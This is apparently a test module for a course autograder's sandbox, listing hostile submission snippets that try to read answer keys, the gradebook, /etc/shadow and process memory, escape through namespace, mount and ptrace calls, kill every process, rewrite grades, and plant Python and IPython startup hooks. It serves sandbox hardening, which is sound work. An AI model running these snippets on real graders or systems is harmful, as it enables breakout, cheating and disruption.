"""Attacks that read or write what is out of reach."""

from __future__ import annotations

import os
from pathlib import Path

from hostile.kit import GRADIENT, LAB, SCHEDULE, VALUE, Attack, Technique, beside, code

from autograde import demo
from autograde.demo import Material

READS_FILES = """
import glob, os
for path in ("{repository}/solutions/lab5_ppo.py", "{repository}/autograde/judge/lab5_ppo.py",
             "{repository}/tests/corpus", "{course}/autograde/gradebook.db", "{course}/solutions",
             "{course}/autograde/submitted", "{course}/autograde/state", "/root/.bashrc",
             "/etc/shadow", "/run/jobs/k1", "/proc/1/root/home", "/proc/1/cwd"):
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read()
    except OSError:
        continue
    if found:
        print("LEAK", path)
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys")) or "site-packages" in folder:
        continue
    for name in files:
        if name in ("gradebook.db", "run.json") or name.startswith("bad_clip"):
            print("LEAK", folder, name)
"""
READS_PROCESSES = """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"{canary}" in text or b"autograde grade" in text.replace(b"\\0", b" "):
        print("LEAK", path)
"""
READS_MEMORY = """
import gc, sys
for module in list(sys.modules):
    if module.split(".")[0] == "autograde":
        print("LEAK", module)
for value in gc.get_objects():
    if type(value) is dict and "ppo_gradients" in value:
        print("LEAK reference")
try:
    import autograde.judge
    print("LEAK autograde")
except ImportError:
    pass
"""
CALLS_HOME = """
import socket
for address in (("127.0.0.1", {port}), ("localhost", {port})):
    try:
        socket.create_connection(address, 1).sendall(b"LEAK")
        print("LEAK network")
    except OSError:
        pass
"""
WRITES = """
import course_utils, os, sys, torch
places = ["{course}", "{repository}", "/tmp", "/", "/usr", "/var/tmp", "/dev/shm", "/run",
          os.path.dirname(course_utils.__file__), os.path.dirname(torch.__file__),
          sys.prefix, os.path.expanduser("~")]
for place in places:
    try:
        open(os.path.join(place, "{canary}"), "w").write("x")
    except OSError:
        pass
"""
DAEMONS = """
import os, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleep = "import time; time.sleep(900)"
            os.execv(sys.executable, [sys.executable, "-c", sleep, "{canary}"])
        os._exit(0)
"""

READS_ITS_REQUEST = """
import glob, json, os
leaks = []
def linear_schedule(update, n_updates, initial):
    for path in glob.glob("/job/*"):
        if not path.startswith("/job/s-"):
            text = open(path).read()
            wanted = json.loads(text)
            keys = {key for case in wanted["cases"] for key in case}
            if keys - {"name", "args", "wrt", "cpu_seconds"} or "expect" in text:
                leaks.append(path)
    raise NotImplementedError
get_ipython().events.register("post_run_cell", lambda *a: [print("LEAK", x) for x in leaks])
"""
SCANS_MEMORY = """
import hashlib, re
# What is looked for is written backwards, not to be found here.
wanted = b"(stneidarg_opp fed"[::-1]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        if not line.split()[1].startswith("rw") or last - first > 1 << 28:
            continue
        try:
            memory.seek(first)
            text = memory.read(last - first)
        except OSError:
            continue
        for at in re.finditer(re.escape(wanted), text):
            behind = text[at.end() : at.end() + 16]
            if hashlib.sha256(behind).hexdigest().startswith("{digest}"):
                print("LEAK reference")
for path in ("/proc/1/mem", "/proc/1/maps", "/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"):
    try:
        if open(path, "rb").read(1):
            print("LEAK", path)
    except OSError:
        pass
"""
DEVICES = """
import os, stat
for name in ("vda", "sda", "nvme0n1", "loop0", "kmsg", "kvm", "fuse", "net/tun", "nvidia0", "mem"):
    try:
        os.close(os.open(f"/dev/{name}", os.O_RDONLY))
        print("LEAK", name)
    except OSError:
        pass
for number in ((254, 0), (8, 0), (1, 1)):
    try:
        os.mknod("/scratch/disk", 0o600 | stat.S_IFBLK, os.makedev(*number))
        print("LEAK device", number)
    except OSError:
        pass
for path in ("/dev/null", "/dev/zero", "/dev/urandom"):
    for change in (os.utime, lambda p: os.chmod(p, 0o600), os.unlink):
        try:
            change(path)
            print("LEAK", path)
        except OSError:
            pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
             "/sys/devices/system/cpu/cpu0/online", "/proc/1/oom_score_adj"):
    try:
        open(path, "w").write("1000")
        print("LEAK", path)
    except OSError:
        pass
"""
SYSTEM_CALLS = """
import ctypes, os, resource, socket
libc = ctypes.CDLL(None, use_errno=True)
syscall = libc.syscall if os.uname().machine == "x86_64" else lambda *a: -1  # numbers differ
null = ctypes.c_void_p()
buffer = ctypes.create_string_buffer(4096)
tries = {
    **{f"unshare {flag:#x}": lambda flag=flag: libc.unshare(flag) for flag in (
        0x10000000, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x20000000, 0x40000000)},
    **{f"setns {name}": lambda name=name: libc.setns(os.open(f"/proc/1/ns/{name}", 0), 0)
       for name in ("user", "mnt", "pid", "net")},
    "clone": lambda: syscall(56, 0x10000000 | 17, 0, 0, 0, 0),
    "clone3": lambda: syscall(435, buffer, 88),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, null),
    "bind": lambda: libc.mount(b"/proc/1/root", b"/tmp", null, 4096, null),
    "umount": lambda: libc.umount2(b"/run/jobs", 2),
    "fsopen": lambda: syscall(430, b"tmpfs", 0),
    "open_tree": lambda: syscall(428, -100, b"/", 1),
    "pivot_root": lambda: syscall(155, b"/tmp", b"/tmp"),
    "chroot": lambda: libc.chroot(b"/tmp"),
    "ptrace": lambda: libc.ptrace(16, 1, null, null),
    "seize": lambda: libc.ptrace(0x4206, 1, null, null),
    "process_vm_readv": lambda: libc.process_vm_readv(1, buffer, 1, buffer, 1, 0),
    "pidfd_getfd": lambda: syscall(438, os.pidfd_open(1), 0, 0),
    "io_uring": lambda: syscall(425, 8, buffer),
    "userfaultfd": lambda: syscall(323, 1),
    "bpf": lambda: syscall(321, 0, buffer, 72),
    "perf_event_open": lambda: syscall(298, buffer, 0, -1, -1, 0),
    "keyctl": lambda: syscall(250, 0, -3, 0),
    "add_key": lambda: syscall(248, b"user", b"mark", b"x", 1, -3),
    "personality": lambda: libc.personality(0x0400000),
    "kexec_load": lambda: syscall(246, 0, 0, null, 0),
    "init_module": lambda: syscall(175, buffer, 4096, b""),
    "sethostname": lambda: libc.sethostname(b"mine", 4),
    "swapon": lambda: libc.swapon(b"/tmp", 0),
    "quotactl": lambda: syscall(179, 0, null, 0, null),
    "syslog": lambda: libc.klogctl(3, buffer, 4096),
    "open_by_handle_at": lambda: syscall(304, -100, buffer, 0),
    "shmget": lambda: libc.shmget(1234, 4096, 0o1666),
    "msgget": lambda: libc.msgget(1234, 0o1666),
    "semget": lambda: libc.semget(1234, 1, 0o1666),
    "memfd_create": lambda: libc.memfd_create(b"x", 0),
    "setuid": lambda: libc.setuid(0),
    "setgid": lambda: libc.setgid(0),
    "setgroups": lambda: libc.setgroups(1, buffer),
    "capset": lambda: libc.capset((0x20080522).to_bytes(4, "little") + bytes(4), b"\xff" * 24),
    "nice": lambda: libc.setpriority(0, 0, -20),
    "realtime": lambda: libc.sched_setscheduler(0, 1, ctypes.byref(ctypes.c_int(50))),
    "more processes": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (10 ** 6, 10 ** 6)),
    "core dumps": lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0)),
    "first to survive": lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    "raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6),
    "packets": lambda: socket.socket(17, socket.SOCK_RAW, 0),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM),
    "crypto socket": lambda: socket.socket(38, socket.SOCK_SEQPACKET),
    "sctp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132),
    "netfilter": lambda: socket.socket(16, socket.SOCK_RAW, 12),
}
for name, attempt in tries.items():
    try:
        result = attempt()
    except (OSError, ValueError, AttributeError):
        continue
    if isinstance(result, int) and result >= 0 or result is None or hasattr(result, "fileno"):
        if name == "clone" and result == 0:
            os._exit(0)
        print("LEAK", name, result)
"""
MEETS_OTHERS = """
import os, socket
# Two students who have agreed on a place to leave answers in.
for path in (f"{folder}/{canary}-met" for folder in ("/tmp", "/dev/shm", "/scratch", "/job")):
    if os.path.exists(path):
        print("LEAK met at", path)
    try:
        open(path, "w").write("the answers")
    except OSError:
        pass
for name in ("\\0{canary}", "/tmp/{canary}-socket"):
    try:
        socket.socket(socket.AF_UNIX).connect(name)
        print("LEAK met at", name)
    except OSError:
        mine = socket.socket(socket.AF_UNIX)
        mine.bind(name)
        mine.listen()
with open("/proc/net/unix") as table:
    for line in table:
        if "/" in line and " /job/s-" not in line and "/tmp/" not in line:
            print("LEAK", line)
"""
TAMPERS = """
import glob, os, site, sqlite3, sys
for path in ("{course}/autograde/gradebook.db", *glob.glob("/**/*.db", recursive=False)):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("update grade set auto_score = 10")
        print("LEAK", path)
    except sqlite3.Error:
        pass
for folder in (*site.getsitepackages(), *sys.path, "/etc/ipython", "/usr/lib/python3", "/job"):
    for name in ("sitecustomize.py", "{canary}.pth", "{canary}"):
        try:
            open(os.path.join(folder, name), "w").write("import os")
            if not os.path.abspath(folder).startswith("/scratch"):
                print("LEAK", folder)
        except OSError:
            pass
os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
open(os.path.expanduser("~/.ipython/profile_default/startup/00.py"), "w").write("print('LEAK')")
os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = "/scratch/x"
"""
SIGNALS_EVERYONE = """
import os, signal
own = {int(task) for task in os.listdir("/proc/self/task")}
for pid in {*range(3, 40_000)} - own:
    try:
        os.kill(pid, signal.SIGKILL)
        print("LEAK killed", pid)
    except OSError:
        pass
for group in (0, 1):
    try:
        os.setpgid(0, group)
    except OSError:
        pass
for path in ("/proc/1/oom_score_adj", "/proc/1/timerslack_ns", "/proc/1/comm"):
    try:
        open(path, "w").write("1000")
    except OSError:
        pass
"""


def _links(m: Material, folder: Path, outside: dict) -> dict:
    (folder / "answers.txt").symlink_to(f"{outside['repository']}/solutions/{LAB}.py")
    (folder / "book.db").symlink_to(f"{outside['course']}/autograde/gradebook.db")
    (folder / "loop").symlink_to(folder)
    os.mkfifo(folder / "timestamp.txt")
    (folder / "extra").mkdir()
    (folder / "extra" / "huge.bin").touch()
    os.truncate(folder / "extra" / "huge.bin", 1 << 40)
    return demo.solved(m)


REACHING = {
    "reads": code(
        reads_files=beside(SCHEDULE, READS_FILES),
        reads_processes=beside(GRADIENT, READS_PROCESSES + CALLS_HOME),
        reads_memory=beside(VALUE, READS_MEMORY),
    ),
    "looks_around": code(
        reads_its_request=Technique(SCHEDULE, READS_ITS_REQUEST),
        scans_memory=beside(GRADIENT, SCANS_MEMORY),
        devices=beside(VALUE, DEVICES),
    ),
    "breaks_out": code(
        system_calls=beside(SCHEDULE, SYSTEM_CALLS),
        signals_everyone=beside(GRADIENT, SIGNALS_EVERYONE),
        meets_others=beside(VALUE, MEETS_OTHERS),
    ),
    "tampers": code(
        tampers_with_results=beside(SCHEDULE, TAMPERS),
        writes_everywhere=beside(GRADIENT, WRITES),
        meets_others_too=beside(VALUE, MEETS_OTHERS),
    ),
    "links_beside_the_notebook": Attack(make=_links),
}
